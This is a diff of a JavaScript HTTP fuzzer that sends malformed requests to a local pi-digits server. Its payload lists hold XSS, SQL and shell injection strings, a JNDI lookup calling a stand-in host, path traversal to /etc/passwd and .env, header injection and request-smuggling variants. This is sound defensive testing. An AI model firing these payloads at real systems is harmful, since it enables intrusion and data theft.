@@ -11,31 +11,48 @@ export const traces = {
 // What is said. Each has a meaning to something that might stand behind a web page.
 const payloads = [
   // markup and templates
-  '<x5s>', '"><x5s y="', "'><x5s>", '" x5s="1', "' x5s='1", '</textarea><x5s>', '</title><x5s>', '<!--<x5s>-->',
-  '<svg onload=x5s>', '<svg/onload=x5s>', 'javascript:x5s', 'data:text/html,<x5s>', '&lt;x5s&gt;<x5s>', '\u00ab<x5s>\u00bb',
-  '+ADw-x5s+AD4-', '<x5s\n>', '<\u0000x5s>', ']]><x5s>', '{{X5S}}', '{{CSRF}}', '{{>HEAD}}', '{{%AUTOESCAPE context="JS"}}',
+  '<x5s>', '"><x5s y="', "'><x5s>", '" x5s="1', "' x5s='1", '</textarea><x5s>', '</title><x5s>',
+  '<!--<x5s>-->',
+  '<svg onload=x5s>', '<svg/onload=x5s>', 'javascript:x5s', 'data:text/html,<x5s>',
+  '&lt;x5s&gt;<x5s>', '\u00ab<x5s>\u00bb',
+  '+ADw-x5s+AD4-', '<x5s\n>', '<\u0000x5s>', ']]><x5s>', '{{X5S}}', '{{CSRF}}', '{{>HEAD}}',
+  '{{%AUTOESCAPE context="JS"}}',
   '{{#ROW}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '[[Position]]', '{%x5s%}', '@STATIC:x5s@',
   // SQL
-  "' OR '1'='1", "1' OR 1=1--", "'; DROP TABLE computation;--", '1; DELETE FROM computation', "1 UNION SELECT * FROM asker",
-  "\\'; --", '1/**/OR/**/1', "x' AND randomblob(1000000000)--", '%27%20OR%201=1', '1) OR (1=1', '`id`', '"id"',
+  "' OR '1'='1", "1' OR 1=1--", "'; DROP TABLE computation;--", '1; DELETE FROM computation',
+  "1 UNION SELECT * FROM asker",
+  "\\'; --", '1/**/OR/**/1', "x' AND randomblob(1000000000)--", '%27%20OR%201=1', '1) OR (1=1',
+  '`id`', '"id"',
   // shells, formats, logs
-  '; id', '| id', '`id`', '$(id)', '& ping x', '%s%s%s%n', '%n%n%n%n', '%x'.repeat(20), '{0}', '%%', '\\', '\\\\', '\\u0000',
+  '; id', '| id', '`id`', '$(id)', '& ping x', '%s%s%s%n', '%n%n%n%n', '%x'.repeat(20), '{0}', '%%',
+  '\\', '\\\\', '\\u0000',
   '\u001b[2J\u001b[31m', '\u0007', '"} {"x5s":"', 'x\tid=1', '${jndi:ldap://evil.example/x}',
   // lines of HTTP
-  '\r\nX-Injected: 1', '\r\n\r\n<x5s>', '\nX-Injected: 1', '\rX-Injected: 1', '\u0085X-Injected: 1', '\u2028X-Injected: 1',
-  '\r\nSet-Cookie: x5s=1', '\r\nLocation: http://evil.example/', '\u560a\u560dX-Injected:1', '\r\n\r\nGET /smuggled HTTP/1.1\r\n\r\n',
+  '\r\nX-Injected: 1', '\r\n\r\n<x5s>', '\nX-Injected: 1', '\rX-Injected: 1', '\u0085X-Injected: 1',
+  '\u2028X-Injected: 1',
+  '\r\nSet-Cookie: x5s=1', '\r\nLocation: http://evil.example/', '\u560a\u560dX-Injected:1',
+  '\r\n\r\nGET /smuggled HTTP/1.1\r\n\r\n',
   // paths
-  '../', '../../../../etc/passwd', '..\\..\\', '....//....//', '..;/', '.;/..', '/..', './', '//', '///', '/./', '.', '..', '...',
-  '.git/config', '.htpasswd', '.env', '~root', 'con', 'nul', 'C:\\', 'file:///etc/passwd', '/etc/passwd', '/proc/self/environ',
-  'nthpi.db', '../db/nthpi.db', '../key', '../../key', 'pi-10-100.txt', 'index.php', 'wp-login.php', 'static..//key', 'a/../../key',
+  '../', '../../../../etc/passwd', '..\\..\\', '....//....//', '..;/', '.;/..', '/..', './', '//',
+  '///', '/./', '.', '..', '...',
+  '.git/config', '.htpasswd', '.env', '~root', 'con', 'nul', 'C:\\', 'file:///etc/passwd',
+  '/etc/passwd', '/proc/self/environ',
+  'nthpi.db', '../db/nthpi.db', '../key', '../../key', 'pi-10-100.txt', 'index.php', 'wp-login.php',
+  'static..//key', 'a/../../key',
   // numbers
-  '0', '-0', '-1', '+1', '00', '01', '1.0', '1e1', '1e309', '0x10', '0b1', '0o7', '1_000', '1,5', '1 1', 'NaN', 'Infinity', '-Infinity',
-  '2147483648', '4294967296', '9007199254740993', '9223372036854775807', '9223372036854775808', '18446744073709551615',
-  '18446744073709551616', '-9223372036854775809', '9'.repeat(40), '1'.repeat(400), '0'.repeat(200), '٣', '１２', '²', '½', 'Ⅷ', '1\u00a0000',
+  '0', '-0', '-1', '+1', '00', '01', '1.0', '1e1', '1e309', '0x10', '0b1', '0o7', '1_000', '1,5',
+  '1 1', 'NaN', 'Infinity', '-Infinity',
+  '2147483648', '4294967296', '9007199254740993', '9223372036854775807', '9223372036854775808',
+  '18446744073709551615',
+  '18446744073709551616', '-9223372036854775809', '9'.repeat(40), '1'.repeat(400), '0'.repeat(200),
+  '٣', '１２', '²', '½', 'Ⅷ', '1\u00a0000',
   // characters
-  '', ' ', '\t', '\u0000', 'x\u0000y', '\u00ff', '\ufeff', '\ufffe', '\uffff', '\u202e', '\u200b', 'e\u0301', '\ud83d\ude00', 'ﷺ'.repeat(20),
-  'ß', 'İ', 'ı', '﹤x5s﹥', '＜x5s＞', '\u0001\u0002\u001f\u007f', 'x'.repeat(1000), 'x'.repeat(4000), '%', '%%%', '&', '&&&&', '=', ';', '#', '?',
-  '+', ',', '*', '"', "'", 'null', 'undefined', 'true', '[]', '[object Object]', '__proto__', 'constructor', 'auto\u0000', 'bbp ', 'DONE',
+  '', ' ', '\t', '\u0000', 'x\u0000y', '\u00ff', '\ufeff', '\ufffe', '\uffff', '\u202e', '\u200b',
+  'e\u0301', '\ud83d\ude00', 'ﷺ'.repeat(20),
+  'ß', 'İ', 'ı', '﹤x5s﹥', '＜x5s＞', '\u0001\u0002\u001f\u007f', 'x'.repeat(1000), 'x'.repeat(4000),
+  '%', '%%%', '&', '&&&&', '=', ';', '#', '?',
+  '+', ',', '*', '"', "'", 'null', 'undefined', 'true', '[]', '[object Object]', '__proto__',
+  'constructor', 'auto\u0000', 'bbp ', 'DONE',
 ];
 
 // How it is written where percent-encoding counts. Bytes are latin1 characters.
@@ -62,16 +79,31 @@ const encodings = [
   (text) => utf8(text).replace(/[\x00-\x20\x7f#?]/g, percent), // as it is, where HTTP allows it
 ];
 
-const paths = ['/', '/pi/', '/pi/5', '/computations/', '/computations/1', '/computations/1/', '/computations/1/delete', '/static/',
-  '/digits/', '/api/v1/', '/api/v1/computations/', '/api/', '/v1/pi', '/updates', '/healthz', '/metrics', '/metrics/', '/robots.txt',
+const paths = [
+  '/', '/pi/', '/pi/5', '/computations/', '/computations/1', '/computations/1/',
+  '/computations/1/delete', '/static/',
+  '/digits/', '/api/v1/', '/api/v1/computations/', '/api/', '/v1/pi', '/updates', '/healthz',
+  '/metrics', '/metrics/', '/robots.txt',
   '/nthpi-errors/', '/static/nthpi.', '/favicon.ico'];
-const parameters = ['status', 'radix', 'algorithm', 'position', 'after', 'limit', 'highlight', 'since', 'from', 'new', 'start',
+const headed = ['/', '/pi/5', '/pi/5.txt', '/updates?since=0', '/api/v1/computations',
+  '/static/nthpi.css', '/computations/1/cancel', '/metrics'];
+const parameters = [
+  'status', 'radix', 'algorithm', 'position', 'after', 'limit', 'highlight', 'since', 'from', 'new',
+  'start',
   'numberOfDigits', 'x', '', 'csrf', 'status[]', 'radix.', '__proto__'];
-const queried = ['/', '/pi/5', '/pi/5.txt', '/updates', '/api/v1/computations', '/v1/pi', '/computations/1', '/healthz', '/api/v1/computations/1'];
-const headers = ['Accept', 'Accept-Encoding', 'Accept-Language', 'Authorization', 'Cache-Control', 'Connection', 'Content-Type', 'Cookie',
-  'Expect', 'Forwarded', 'From', 'Host', 'If-Match', 'If-Modified-Since', 'If-None-Match', 'If-Range', 'If-Unmodified-Since', 'Origin',
-  'Prefer', 'Proxy', 'Range', 'Referer', 'Remote-User', 'Sec-Fetch-Site', 'TE', 'Trailer', 'Upgrade', 'User-Agent', 'Via',
-  'X-Accel-Redirect', 'X-Forwarded-For', 'X-Forwarded-Host', 'X-Forwarded-Proto', 'X-HTTP-Method-Override', 'X-Original-URL',
+const queried = [
+  '/', '/pi/5', '/pi/5.txt', '/updates', '/api/v1/computations', '/v1/pi', '/computations/1',
+  '/healthz', '/api/v1/computations/1',
+];
+const headers = [
+  'Accept', 'Accept-Encoding', 'Accept-Language', 'Authorization', 'Cache-Control', 'Connection',
+  'Content-Type', 'Cookie',
+  'Expect', 'Forwarded', 'From', 'Host', 'If-Match', 'If-Modified-Since', 'If-None-Match',
+  'If-Range', 'If-Unmodified-Since', 'Origin',
+  'Prefer', 'Proxy', 'Range', 'Referer', 'Remote-User', 'Sec-Fetch-Site', 'TE', 'Trailer',
+  'Upgrade', 'User-Agent', 'Via',
+  'X-Accel-Redirect', 'X-Forwarded-For', 'X-Forwarded-Host', 'X-Forwarded-Proto',
+  'X-HTTP-Method-Override', 'X-Original-URL',
   'X-Real-IP', 'X-Rewrite-URL', 'X-Sendfile'];
 const framed = {
   Authorization: (v) => [`Bearer ${v}`, `Basic ${v}`, `bearer\t${v}`, `Digest ${v}`],
@@ -84,16 +116,30 @@ const framed = {
   'Accept-Language': (v) => [`ru;q=${v}`],
   Host: (v) => [`127.0.0.1:${v}`, `${v}.127.0.0.1`, `user@${v}`, `evil.example${v}`],
 };
-const methods = ['get', 'GETS', 'GET\u00a0', 'PUT', 'PATCH', 'OPTIONS', 'TRACE', 'TRACK', 'CONNECT', 'PROPFIND', 'MKCOL', 'MOVE', 'LOCK', 'DEBUG',
+const methods = [
+  'get', 'GETS', 'GET\u00a0', 'PUT', 'PATCH', 'OPTIONS', 'TRACE', 'TRACK', 'CONNECT', 'PROPFIND',
+  'MKCOL', 'MOVE', 'LOCK', 'DEBUG',
   'PURGE', 'BREW', 'X'.repeat(300), 'G-T', '<x5s>', "GET'", 'POST', 'DELETE', 'HEAD'];
-const json = ['', '{', '[', '{}', '[]', 'null', '"x"', '1', '{"position":', '{"position":1,}', "{'position':1}", '{"position":1}{"position":2}',
-  '{"position":1,"position":0}', '{"position":1e400}', '{"position":-1}', '{"position":0}', '{"position":1.5}', '{"position":"1"}',
-  '{"position":[1]}', '{"position":{"a":1}}', '{"position":true}', '{"position":99999999999999999999}', '{"position":1,"radix":"16"}',
-  '{"position":1,"radix":1e1}', '{"position":5,"algorithm":"\\u0000"}', '{"position":5,"algorithm":"\\ud800"}', '{"\\u0000":1}',
-  '{"__proto__":{"position":1}}', '\ufeff{"position":0}', '[['.repeat(2000), '{"a":'.repeat(2500), `{"position":${'9'.repeat(5000)}}`,
-  '{"position":1,"x5s":"<x5s>"}', '{"position":1,"\\"><x5s>":1}', '\u0000', '{"position":1/**/}', 'NaN', '{"position":0x10}', '{"position":01}', ' '.repeat(17000), `{"position":${' '.repeat(70000)}0}`];
-const types = ['application/x-www-form-urlencoded', 'application/json', 'text/plain', 'multipart/form-data; boundary=x',
-  'application/x-www-form-urlencoded; charset=utf-16', 'application/json, text/html', 'application/xml', '', 'a/b;x="\\"',
+const json = [
+  '', '{', '[', '{}', '[]', 'null', '"x"', '1', '{"position":', '{"position":1,}', "{'position':1}",
+  '{"position":1}{"position":2}',
+  '{"position":1,"position":0}', '{"position":1e400}', '{"position":-1}', '{"position":0}',
+  '{"position":1.5}', '{"position":"1"}',
+  '{"position":[1]}', '{"position":{"a":1}}', '{"position":true}',
+  '{"position":99999999999999999999}', '{"position":1,"radix":"16"}',
+  '{"position":1,"radix":1e1}', '{"position":5,"algorithm":"\\u0000"}',
+  '{"position":5,"algorithm":"\\ud800"}', '{"\\u0000":1}',
+  '{"__proto__":{"position":1}}', '\ufeff{"position":0}', '[['.repeat(2000), '{"a":'.repeat(2500),
+  `{"position":${'9'.repeat(5000)}}`,
+  '{"position":1,"x5s":"<x5s>"}', '{"position":1,"\\"><x5s>":1}', '\u0000', '{"position":1/**/}',
+  'NaN', '{"position":0x10}', '{"position":01}', ' '.repeat(17000),
+  `{"position":${' '.repeat(70_000)}0}`,
+];
+const types = [
+  'application/x-www-form-urlencoded', 'application/json', 'text/plain',
+  'multipart/form-data; boundary=x',
+  'application/x-www-form-urlencoded; charset=utf-16', 'application/json, text/html',
+  'application/xml', '', 'a/b;x="\\"',
   'APPLICATION/JSON', 'application/x-www-form-urlencoded\u000b', 'text/html<x5s>'];
 
 /** Numbers below N, the same ones for the same SEED (mulberry32: xorshift and multiply). */
@@ -110,64 +156,71 @@ export function dice(seed) {
 // A header's value: no line may end in it, and NUL is for the broken ones.
 const value = (text) => utf8(text).replace(/[\r\n\0]/g, '');
 
-const request = (method, target, lines = [], body = '') => {
-  const all = [`${method} ${target} HTTP/1.1`];
-  if (!lines.some((line) => /^host:/i.test(line))) all.push('Host: 127.0.0.1');
-  all.push(...lines);
-  if (body !== '' || method === 'POST') all.push(`Content-Length: ${body.length}`);
-  return `${all.join('\r\n')}\r\n\r\n${body}`;
-};
+const message = (first, lines, body = '') => `${[first, ...lines].join('\r\n')}\r\n\r\n${body}`;
 
-// Whole requests of one kind each, made with the numbers of PICK.
+const host = 'Host: 127.0.0.1';
+const asForm = `Content-Type: ${types[0]}`;
+const wantsJson = 'Accept: application/json';
+
+function request(method, target, lines = [], body = '') {
+  const all = lines.some((line) => /^host:/i.test(line)) ? [...lines] : [host, ...lines];
+  if (body !== '' || method === 'POST') all.push(`Content-Length: ${body.length}`);
+  return message(`${method} ${target} HTTP/1.1`, all, body);
+}
+
+// Whole requests of one kind each. PICK(N) is a number below N, ANY() one of a list.
 const kinds = {
-  path(pick, payload, encode) {
-    const tail = pick(3) ? '' : ['/cancel', '.txt', '/delete', '?x', '/..', '/'][pick(6)];
-    return request(['GET', 'GET', 'HEAD', 'POST', 'DELETE'][pick(5)], `${paths[pick(paths.length)]}${encode(payload)}${tail}`);
+  path({ pick, any, payload, encode }) {
+    const tail = pick(3) ? '' : any(['/cancel', '.txt', '/delete', '?x', '/..', '/']);
+    const method = any(['GET', 'GET', 'HEAD', 'POST', 'DELETE']);
+    return request(method, `${any(paths)}${encode(payload)}${tail}`);
   },
-  query(pick, payload, encode) {
-    const fields = Array.from({ length: 1 + pick(3) }, () => `${parameters[pick(parameters.length)]}=${encode(payload)}`);
+  query({ pick, any, payload, encode }) {
+    const fields = [];
+    for (let n = 1 + pick(3); n > 0; n--) fields.push(`${any(parameters)}=${encode(payload)}`);
     if (!pick(6)) fields.push(fields[0]);
     if (!pick(8)) fields.push(`${encode(payload)}=1`);
     if (!pick(20)) fields.push(...Array(40).fill('x=1'));
-    const json_ = pick(3) ? [] : ['Accept: application/json'];
-    return request('GET', `${queried[pick(queried.length)]}?${fields.join(pick(9) ? '&' : ';')}`, json_);
+    const target = `${any(queried)}?${fields.join(pick(9) ? '&' : ';')}`;
+    return request('GET', target, pick(3) ? [] : [wantsJson]);
   },
   // {CSRF} stands for a token that is good: what is wrong is something else.
-  form(pick, payload, encode) {
+  form({ pick, any, payload, encode }) {
     const good = { position: '7', radix: '10', algorithm: 'auto' };
     const names = Object.keys(good);
-    const wrong = names[pick(3)];
-    const fields = names.map((name) => `${name}=${name === wrong ? `x${encode(payload)}` : good[name]}`);
+    const wrong = any(names);
+    const fields = names.map((name) =>
+      `${name}=${name === wrong ? `x${encode(payload)}` : good[name]}`);
     if (!pick(5)) fields.push(`${encode(payload)}=${encode(payload)}`);
     if (!pick(6)) fields.push(fields[pick(3)]);
     if (!pick(12)) fields.push(...Array(40).fill('x=1'));
     fields.push(pick(3) ? 'csrf={CSRF}' : `csrf=${encode(payload)}`);
-    const where = pick(4) ? '/computations' : `/computations/${1 + pick(3)}/${['cancel', 'retry', 'delete'][pick(3)]}`;
-    return request('POST', where, [`Content-Type: ${types[0]}`, ...(pick(3) ? [] : ['Accept: application/json'])], fields.join('&'));
+    const target = pick(4) ? '/computations'
+      : `/computations/${1 + pick(3)}/${any(['cancel', 'retry', 'delete'])}`;
+    return request('POST', target, pick(3) ? [asForm] : [asForm, wantsJson], fields.join('&'));
   },
-  json(pick, payload) {
+  json({ pick, any, payload }) {
     const odd = JSON.stringify({ position: 7, algorithm: payload, [payload]: payload });
-    const body = utf8(pick(3) ? json[pick(json.length)] : odd);
-    // A good question among the bad ones is asked in the wrong way.
-    const type = /^\{"position":[17]\}$/.test(body) ? 'text/plain' : types[pick(4) ? 1 : pick(types.length)];
-    const where = pick(3) ? '/api/v1/computations' : `/api/v1/computations/${1 + pick(3)}/cancel`;
-    return request('POST', where, [`Content-Type: ${value(type)}`], body);
+    const body = utf8(pick(3) ? any(json) : odd);
+    const type = pick(4) ? 'application/json' : any(types);
+    const target = pick(3) ? '/api/v1/computations' : `/api/v1/computations/${1 + pick(3)}/cancel`;
+    return request('POST', target, [`Content-Type: ${value(type)}`], body);
   },
-  header(pick, payload) {
-    const name = headers[pick(headers.length)];
+  header({ pick, any, payload }) {
+    const name = any(headers);
     const forms = framed[name]?.(value(payload)) ?? [value(payload)];
-    const lines = [`${name}: ${pick(5) ? forms[pick(forms.length)] : value(payload)}`];
+    const lines = [`${name}: ${pick(5) ? any(forms) : value(payload)}`];
     if (!pick(10)) lines.push(lines[0]);
     if (!pick(60)) lines.push(...Array.from({ length: 200 }, (_, i) => `X-${i}: ${i}`));
-    return request(['GET', 'GET', 'POST', 'DELETE'][pick(4)],
-      ['/', '/pi/5', '/pi/5.txt', '/updates?since=0', '/api/v1/computations', '/static/nthpi.css', '/computations/1/cancel', '/metrics'][pick(8)], lines);
+    return request(any(['GET', 'GET', 'POST', 'DELETE']), any(headed), lines);
   },
-  method(pick, payload, encode) {
-    return request(methods[pick(methods.length)], `${paths[pick(paths.length)]}${pick(2) ? encode(payload) : ''}`,
-      pick(2) ? [] : ['Content-Type: text/html']);
+  method({ pick, any, payload, encode }) {
+    const target = `${any(paths)}${pick(2) ? encode(payload) : ''}`;
+    return request(any(methods), target, pick(2) ? [] : ['Content-Type: text/html']);
   },
-  type(pick, payload, encode) {
-    return request('POST', pick(2) ? '/computations' : '/api/v1/computations', [`Content-Type: ${value(types[pick(types.length)])}`],
+  type({ pick, any, payload, encode }) {
+    return request('POST', pick(2) ? '/computations' : '/api/v1/computations',
+      [`Content-Type: ${value(any(types))}`],
       pick(2) ? `position=${encode(payload)}x` : `--x\r\n${utf8(payload)}`);
   },
 };
@@ -176,49 +229,92 @@ const kinds = {
 // A second request stands in what is a body to one of them: nobody may answer it.
 const inner = 'GET /smuggled HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n';
 const chunked = `0\r\n\r\n${inner}`;
-const codings = ['chunked', 'Chunked', 'xchunked', 'chunked, identity', 'identity, chunked', 'chunked, chunked', ' chunked', '\tchunked',
-  '\u000bchunked', 'chunked\u000b', '"chunked"', 'chunked;x=1', ',chunked', 'chunked,', 'cow', 'identity', '', 'gzip, chunked', 'chun\u0000ked', '\r\n chunked'];
-const codingNames = ['Transfer-Encoding', 'transfer-encoding', 'Transfer-Encoding ', 'Transfer_Encoding', ' Transfer-Encoding', 'X\r\nTransfer-Encoding',
+const codings = [
+  'chunked', 'Chunked', 'xchunked', 'chunked, identity', 'identity, chunked', 'chunked, chunked',
+  ' chunked', '\tchunked',
+  '\u000bchunked', 'chunked\u000b', '"chunked"', 'chunked;x=1', ',chunked', 'chunked,', 'cow',
+  'identity', '', 'gzip, chunked', 'chun\u0000ked', '\r\n chunked',
+];
+const codingNames = [
+  'Transfer-Encoding', 'transfer-encoding', 'Transfer-Encoding ', 'Transfer_Encoding',
+  ' Transfer-Encoding', 'X\r\nTransfer-Encoding',
   'Transfer-\u0000Encoding', 'TRANSFER-ENCODING'];
-const lengths = ['+{n}', '-1', '0x{n}', '{n},{n}', '{n} {n}', '{n}\r\nContent-Length: 0', '0\r\nContent-Length: {n}', '{n}.0', '"{n}"', '99999999999999999999',
+const lengths = [
+  '+{n}', '-1', '0x{n}', '{n},{n}', '{n} {n}', '{n}\r\nContent-Length: 0',
+  '0\r\nContent-Length: {n}', '{n}.0', '"{n}"', '99999999999999999999',
   '-{n}', '{n}\u0000', '', ' ', 'NaN', '{n}e0', '{n}\r\nContent-Length: {n}', '{n};'];
-const chunks = ['zz\r\nx\r\n', '-1\r\nx\r\n', 'ffffffffffffffff\r\nx', '10000000000000000\r\nx', '5\r\nab', '1\r\nxy\r\n', '1\nx\n', '0x1\r\nx\r\n', ' 1\r\nx\r\n',
-  '1 \r\nx\r\n', '1;a="\r\nx\r\n', '\r\n', '1\r\nx0\r\n\r\n', '00000000000000000001\r\nx\r\n', '1\r\rx\r\n', '+1\r\nx\r\n'];
+const chunks = [
+  'zz\r\nx\r\n', '-1\r\nx\r\n', 'ffffffffffffffff\r\nx', '10000000000000000\r\nx', '5\r\nab',
+  '1\r\nxy\r\n', '1\nx\n', '0x1\r\nx\r\n', ' 1\r\nx\r\n',
+  '1 \r\nx\r\n', '1;a="\r\nx\r\n', '\r\n', '1\r\nx0\r\n\r\n', '00000000000000000001\r\nx\r\n',
+  '1\r\rx\r\n', '+1\r\nx\r\n',
+];
 const ends = ['\n', '\r', '\r\r\n', '\n\r', '\u0000\r\n', '\u000b\r\n', ' \r\n'];
-const lines = ['', ' ', ': x', 'x', 'X y: z', 'X\u0000: y', 'X: \u0000', 'X\u00e9: y', '(x): y', 'X: y\rZ: 1', ' folded', '\tX: y', 'X:\r\n y', 'Host: a\r\nHost: b', 'Host:',
-  'Host: ', 'Host: a b', 'Host: /', 'Host: a/b', 'Host: [::1', 'Host: a\u0000', 'Host: \u00e9', `Host: ${'h'.repeat(5000)}`, 'Content-Length', 'X'.repeat(9000),
+const lines = [
+  '', ' ', ': x', 'x', 'X y: z', 'X\u0000: y', 'X: \u0000', 'X\u00e9: y', '(x): y', 'X: y\rZ: 1',
+  ' folded', '\tX: y', 'X:\r\n y', 'Host: a\r\nHost: b', 'Host:',
+  'Host: ', 'Host: a b', 'Host: /', 'Host: a/b', 'Host: [::1', 'Host: a\u0000', 'Host: \u00e9',
+  `Host: ${'h'.repeat(5000)}`, 'Content-Length', 'X'.repeat(9000),
   `X: ${'y'.repeat(9000)}`, `${'X: y\r\n'.repeat(3000)}Z: 1`, `Cookie: ${'a=b; '.repeat(1500)}`];
-const targets = ['http://evil.example/', 'http://127.0.0.1/', 'HTTP://[::1]/', 'http://evil.example:99999/', 'http:///', 'ftp://evil.example/', '*', '', ' ', 'evil.example:443',
-  'x', '\\', '/\u0000', '/ x', '/#x', '/\t', '/\u00e9', '//evil.example/', '/\\evil.example', `/${'x'.repeat(9000)}`, `/?${'x'.repeat(9000)}`, '/\u007f', '?', '@evil.example', '/%'];
-const versions = ['', ' ', ' HTTP/0.9', ' HTTP/1.0', ' HTTP/1.2', ' HTTP/1.10', ' HTTP/2.0', ' HTTP/9.9', ' HTTP/1', ' http/1.1', ' HTTP/-1.1', ' HTTP/1.1 x', ' HTTPS/1.1', ' HTTP/1.1\u0000',
+const targets = [
+  'http://evil.example/', 'http://127.0.0.1/', 'HTTP://[::1]/', 'http://evil.example:99999/',
+  'http:///', 'ftp://evil.example/', '*', '', ' ', 'evil.example:443',
+  'x', '\\', '/\u0000', '/ x', '/#x', '/\t', '/\u00e9', '//evil.example/', '/\\evil.example',
+  `/${'x'.repeat(9000)}`, `/?${'x'.repeat(9000)}`, '/\u007f', '?', '@evil.example', '/%',
+];
+const versions = [
+  '', ' ', ' HTTP/0.9', ' HTTP/1.0', ' HTTP/1.2', ' HTTP/1.10', ' HTTP/2.0', ' HTTP/9.9', ' HTTP/1',
+  ' http/1.1', ' HTTP/-1.1', ' HTTP/1.1 x', ' HTTPS/1.1', ' HTTP/1.1\u0000',
   '  HTTP/1.1', '\tHTTP/1.1', ' HTTP/01.1', ' X'];
-const bytes = ['\u0000', '\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc\u0003\u0003', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'SSH-2.0-x\r\n', '\r\n'.repeat(500), 'PROXY TCP4 1.2.3.4 1.2.3.4 1 1\r\n',
-  '\u0001\u0001\u0000\u0001\u0000\u0008\u0000\u0000\u0000\u0001\u0000\u0000\u0000\u0000\u0000\u0000', 'EHLO x\r\n', 'GET', 'G'.repeat(9000), '{"x":1}\r\n', '\u00ff'.repeat(100)];
-const bodied = ['/', '/computations', '/computations/1', '/pi/5', '/pi/5.txt', '/static/nthpi.css', '/robots.txt', '/nothing', '/api/v1/computations', '/updates', '/metrics'];
+const bytes = [
+  '\u0000', '\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc\u0003\u0003',
+  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'SSH-2.0-x\r\n', '\r\n'.repeat(500),
+  'PROXY TCP4 1.2.3.4 1.2.3.4 1 1\r\n',
+ 
+  '\u0001\u0001\u0000\u0001\u0000\u0008\u0000\u0000\u0000\u0001\u0000\u0000\u0000\u0000\u0000\u0000',
+  'EHLO x\r\n', 'GET', 'G'.repeat(9000), '{"x":1}\r\n', '\u00ff'.repeat(100),
+];
+const bodied = [
+  '/', '/computations', '/computations/1', '/pi/5', '/pi/5.txt', '/static/nthpi.css', '/robots.txt',
+  '/nothing', '/api/v1/computations', '/updates', '/metrics',
+];
+
+const bodiedMethods = ['GET', 'HEAD', 'DELETE', 'OPTIONS', 'PUT', 'POST', 'BREW'];
+const asides = ['X: y', 'Expect: 100-continue', 'Content-Type: application/json', 'Upgrade: h2c'];
+const coded = 'Transfer-Encoding: chunked';
+const post = ({ any }, lines, body, version = '1.1') =>
+  message(`POST ${any(bodied)} HTTP/${version}`, [host, ...lines], body);
+// What stands in a head cannot smuggle anything: it is the next request.
+const pipelined = (text) => utf8(text).replaceAll('/smuggled', '/pipelined');
 
 const broken = [
-  (pick) => `POST ${bodied[pick(bodied.length)]} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: ${chunked.length}\r\n`
-    + `${codingNames[pick(codingNames.length)]}: ${codings[pick(codings.length)]}\r\n\r\n${chunked}`,
-  (pick) => `POST ${bodied[pick(bodied.length)]} HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: ${codings[pick(codings.length)]}\r\n`
-    + `Transfer-Encoding: ${codings[pick(codings.length)]}\r\nContent-Length: ${chunked.length}\r\n\r\n${chunked}`,
-  (pick) => `POST ${bodied[pick(bodied.length)]} HTTP/1.${pick(2)}\r\nHost: 127.0.0.1\r\n`
-    + `Content-Length: ${lengths[pick(lengths.length)].replaceAll('{n}', inner.length)}\r\n\r\n${inner}`,
+  // Two lengths of one body.
+  (by) => post(by, [`Content-Length: ${chunked.length}`,
+    `${by.any(codingNames)}: ${by.any(codings)}`], chunked),
+  (by) => post(by, [`Transfer-Encoding: ${by.any(codings)}`,
+    `Transfer-Encoding: ${by.any(codings)}`, `Content-Length: ${chunked.length}`], chunked),
+  (by) => post(by, [`Content-Length: ${by.any(lengths).replaceAll('{n}', inner.length)}`], inner,
+    by.any(['1.0', '1.1'])),
   // A body where none belongs, to all kinds of answers.
-  (pick) => `${['GET', 'HEAD', 'DELETE', 'OPTIONS', 'PUT', 'POST', 'BREW'][pick(7)]} ${bodied[pick(bodied.length)]} HTTP/1.1\r\nHost: 127.0.0.1\r\n`
-    + `Content-Length: ${inner.length}\r\n${['', 'Expect: 100-continue\r\n', 'Content-Type: application/json\r\n', 'Upgrade: h2c\r\n'][pick(4)]}\r\n${inner}`,
-  (pick) => `POST ${bodied[pick(bodied.length)]} HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n`
-    + `${'1\r\nx\r\n'.repeat(pick(3))}${chunks[pick(chunks.length)]}`,
-  (pick) => `POST /computations HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n${inner.length.toString(16)}\r\n${inner}\r\n0\r\nX-Injected: 1\r\n\r\n`
-    .slice(0, pick(2) ? undefined : -pick(30)),
-  (pick) => ['GET / HTTP/1.1', 'Host: 127.0.0.1', 'X: y', '', ''].join(ends[pick(ends.length)]),
-  (pick) => `GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n${lines[pick(lines.length)]}\r\nX: y\r\n\r\n`,
-  (pick) => `GET / HTTP/1.1\r\n${lines[pick(lines.length)]}\r\n\r\n`,
-  (pick) => `GET ${targets[pick(targets.length)]} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n`,
-  (pick) => `GET ${['/', '/pi/5', '/api/v1/computations', '/nothing'][pick(4)]}${versions[pick(versions.length)]}\r\nHost: 127.0.0.1\r\n\r\n`,
-  (pick) => `${methods[pick(methods.length)]}${[' ', '  ', '\t', ''][pick(4)]}${targets[pick(targets.length)]} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n`,
-  (pick) => bytes[pick(bytes.length)] + (pick(2) ? '' : 'GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n'),
-  (pick, payload) => `GET /?x=${utf8(payload)} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n`.replaceAll('GET /smuggled', 'GET /pipelined'),
-  (pick, payload) => `GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-${utf8(payload)}: ${utf8(payload)}\r\n\r\n`.replaceAll('GET /smuggled', 'GET /pipelined'),
+  ({ any }) => message(`${any(bodiedMethods)} ${any(bodied)} HTTP/1.1`,
+    [host, `Content-Length: ${inner.length}`, any(asides)], inner),
+  // Chunks.
+  (by) => post(by, [coded], `${'1\r\nx\r\n'.repeat(by.pick(3))}${by.any(chunks)}`),
+  (by) => post(by, [coded],
+    `${inner.length.toString(16)}\r\n${inner}\r\n0\r\nX-Injected: 1\r\n\r\n`)
+    .slice(0, by.pick(2) ? undefined : -by.pick(30)),
+  // Lines, heads, addresses, versions.
